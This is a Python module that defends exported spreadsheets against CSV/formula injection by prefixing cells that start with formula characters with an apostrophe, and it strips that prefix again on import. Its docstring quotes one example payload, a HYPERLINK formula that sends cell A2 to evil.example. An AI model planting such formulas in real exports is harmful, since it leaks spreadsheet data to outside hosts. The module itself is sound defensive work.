"""Spreadsheet cells that cannot become formulas (CSV/formula injection).

A member named ``=HYPERLINK("http://evil.example/?x="&A2,"点击")`` must reach Excel, WPS or
LibreOffice as text, not as a live formula. Following OWASP, text that starts with ``= + - @``,
a tab or a carriage return gets a leading apostrophe; numbers (negative ones too) stay numbers.
The import strips that apostrophe again (``unescape``), so an exported file imports back as
the original text.

Every Excel and CSV writer passes its rows through ``escape_row`` (or ``append``).
"""
from collections.abc import Iterable

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"
_ESCAPED = (*FORMULA_STARTS, QUOTE)


def escape(value):
    """Text that a spreadsheet would read as a formula gets a leading apostrophe; everything else is unchanged.

    Text that already starts with an apostrophe gets one more, so that ``unescape`` is its exact inverse.
    """
    if isinstance(value, str) and value.startswith(_ESCAPED):
        return QUOTE + value
    return value


def escape_row(values: Iterable) -> list:
    return [escape(v) for v in values]


def append(ws, values: Iterable) -> None:
    """``ws.append`` for an openpyxl sheet, with every text cell escaped."""
    ws.append(escape_row(values))


def unescape(text: str) -> str:
    """Undo ``escape``: an apostrophe followed by a formula start or another apostrophe is dropped; any other
    text (``'abc`` typed by a user) is unchanged."""
    if text.startswith(QUOTE) and text[1:].startswith(_ESCAPED):
        return text[1:]
    return text
